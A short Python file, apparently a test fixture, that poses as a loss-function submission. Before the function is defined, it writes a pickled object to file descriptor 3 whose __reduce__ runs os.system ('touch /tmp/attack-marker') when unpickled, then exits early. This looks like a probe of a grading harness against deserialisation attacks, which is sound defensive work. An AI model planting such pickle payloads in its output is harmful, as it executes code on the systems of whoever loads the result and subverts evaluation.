"""Hope that somebody unpickles the answer."""

import os
import pickle

import jax.numpy as jnp

class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/attack-marker",))


try:
    os.write(3, pickle.dumps(Bomb()))
except OSError:
    pass
os._exit(0)


def loss(prediction, target):
    return jnp.abs(prediction - target)
